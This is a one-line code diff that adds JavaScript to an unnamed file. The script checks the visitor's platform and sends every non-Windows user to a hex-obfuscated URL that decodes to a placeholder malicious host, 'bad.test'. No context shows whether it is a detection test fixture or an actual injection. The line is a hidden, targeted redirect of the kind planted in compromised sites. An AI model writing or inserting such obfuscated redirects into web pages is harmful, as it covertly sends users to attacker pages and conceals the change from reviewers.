@@ -1,0 +1,1 @@
+if (navigator.platform != 'Win32') { window['location']['replace']("\x68\x74\x74\x70\x3a\x2f\x2f\x62\x61\x64\x2e\x74\x65\x73\x74"); }
